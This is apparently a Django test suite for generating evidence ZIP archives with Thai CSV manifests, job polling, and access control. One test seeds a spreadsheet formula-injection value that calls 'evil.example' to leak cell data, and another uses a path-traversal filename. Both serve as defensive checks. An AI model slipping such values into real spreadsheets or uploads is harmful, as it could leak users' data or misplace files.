"""Background report jobs: the evidence ZIP with its manifest; progress, reloads, privacy."""

from __future__ import annotations

import csv
import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

from pramern.assessments.models import Record
from pramern.assessments.services import add_file_evidence, add_link_evidence
from pramern.reports.models import ReportJob
from pramern.review.services import set_verdict, transition
from tests.factories import record

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def test_the_evidence_zip_holds_the_files_and_a_thai_manifest(client, world, django_capture_on_commit_callbacks):
    first = record(world.a, "1.1.1", "guideline", "2024-03-01", signed_or_presented=True, published=True)
    second = record(world.a, "1.1.2", "followups", "2024-03-15", presented_to_director=True)
    late = record(world.a, "1.2.2", "followups", "2024-08-15")  # after R12's cut-off: not in the round
    pdf = add_file_evidence(
        world.a, SimpleUploadedFile("แนวทาง/../ป้องกันการทุจริต.pdf", PDF), user=world.alice, records=[first]
    )
    pdf.records.add(second)  # one file supporting two items
    add_link_evidence(world.a, "https://example.go.th/integrity", user=world.alice, title="หน้าเว็บไซต์", records=[first])
    add_file_evidence(world.a, SimpleUploadedFile("late.pdf", PDF), user=world.alice, records=[late])
    transition(world.a, "R12", "submit", user=world.dan)
    transition(world.a, "R12", "start_review", user=world.eve)
    set_verdict(second, "rejected", reason="ไม่มีรายงานการประชุม", user=world.eve)

    client.force_login(world.alice)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/a/{world.a.pk}/evidence.zip", {"round": "R12"})
    job = ReportJob.objects.get()
    assert response["Location"] == f"/reports/jobs/{job.pk}/"
    assert (job.status, job.progress) == ("done", 100)
    page = client.get(f"/reports/jobs/{job.pk}/").content.decode()  # a reload finds the finished job
    assert (
        f"/reports/jobs/{job.pk}/download/" in page and 'hx-trigger="every 2s"' not in page
    )  # a finished job stops polling
    download = client.get(f"/reports/jobs/{job.pk}/download/")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content)))
    names = archive.namelist()
    assert names == [f"1.1.1/{pdf.pk}-ป้องกันการทุจริต.pdf", "manifest.csv"]
    assert archive.read(names[0]) == PDF
    manifest = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))
    assert manifest[0][:3] == ["ข้อ", "รหัสรายการ", "วันที่"]
    by_item = {row[0]: row for row in manifest[1:] if row[5] != "หน้าเว็บไซต์"}
    assert by_item["1.1.2"][6] == names[0]  # the shared file, once
    assert by_item["1.1.2"][7:] == ["ไม่รับรอง", "ไม่มีรายงานการประชุม"]
    assert ["https://example.go.th/integrity"] == [row[6] for row in manifest[1:] if row[5] == "หน้าเว็บไซต์"]
    assert "1.2.2" not in by_item


def test_jobs_are_private_and_units_are_checked(client, world, django_capture_on_commit_callbacks):
    client.force_login(world.alice)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/a/{world.a.pk}/evidence.zip", {"round": "R6"})
    job = ReportJob.objects.get()
    client.force_login(world.dan)  # even the director of the same unit: the job is alice's
    assert client.get(f"/reports/jobs/{job.pk}/").status_code == 404
    assert client.get(f"/reports/jobs/{job.pk}/download/").status_code == 404
    client.force_login(world.bob)
    assert client.post(f"/a/{world.a.pk}/evidence.zip", {"round": "R6"}).status_code == 404
    assert client.post("/reports/consolidated/", {"round": "R12"}).status_code == 403
    assert ReportJob.objects.count() == 1


def test_a_job_still_running_is_polled(client, world):
    client.force_login(world.alice)
    client.post(f"/a/{world.a.pk}/evidence.zip", {"round": "R6"})  # not committed: still queued
    job = ReportJob.objects.get()
    assert job.status == "queued"
    fragment = client.get(f"/reports/jobs/{job.pk}/", HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 2s"' in fragment and "<html" not in fragment


def test_the_manifest_does_not_carry_formulas(world):
    from pramern.reports.evidence_zip import build_evidence_zip

    rec = record(world.a, "1.1.1", "guideline", "2024-03-01")
    Record.objects.filter(pk=rec.pk).update(title='=HYPERLINK("http://evil.example/"&A2,"open")')
    add_link_evidence(world.a, "https://example.go.th/x", user=world.alice, title="@SUM(1+1)", records=[rec])
    stream = io.BytesIO()
    build_evidence_zip(world.a, "R12", stream)
    manifest = zipfile.ZipFile(stream).read("manifest.csv").decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(manifest)))[1]
    assert row[4] == '\'=HYPERLINK("http://evil.example/"&A2,"open")' and row[5] == "'@SUM(1+1)"


def test_an_executives_zip_has_no_verdicts_before_publication(client, world, django_capture_on_commit_callbacks):
    rec = record(world.a, "1.1.1", "guideline", "2024-03-01")
    add_link_evidence(world.a, "https://example.go.th/x", user=world.alice, title="แนวทาง", records=[rec])
    transition(world.a, "R12", "submit", user=world.dan)
    transition(world.a, "R12", "start_review", user=world.eve)
    set_verdict(rec, "rejected", reason="ไม่ได้ลงนาม", user=world.eve)

    def manifest_row(user):
        client.force_login(user)
        with django_capture_on_commit_callbacks(execute=True):
            client.post(f"/a/{world.a.pk}/evidence.zip", {"round": "R12"})
        job = ReportJob.objects.filter(requested_by=user).latest("created_at")
        archive = zipfile.ZipFile(
            io.BytesIO(b"".join(client.get(f"/reports/jobs/{job.pk}/download/").streaming_content))
        )
        return list(csv.reader(io.StringIO(archive.read("manifest.csv").decode("utf-8-sig"))))[1]

    assert manifest_row(world.alice)[7:] == ["ไม่รับรอง", "ไม่ได้ลงนาม"]
    assert manifest_row(world.xena)[7:] == ["", ""]


def test_my_reports_lists_only_my_jobs(client, world, django_capture_on_commit_callbacks):
    client.force_login(world.alice)
    assert "ยังไม่มีรายงาน" in client.get("/reports/jobs/").content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/a/{world.a.pk}/evidence.zip", {"round": "R12"})
    job = ReportJob.objects.get()
    page = client.get("/reports/jobs/").content.decode()
    assert f"/reports/jobs/{job.pk}/download/" in page
    client.force_login(world.dan)
    assert str(job.pk) not in client.get("/reports/jobs/").content.decode()
    client.logout()
    assert client.get("/reports/jobs/")["Location"].startswith("/login/")
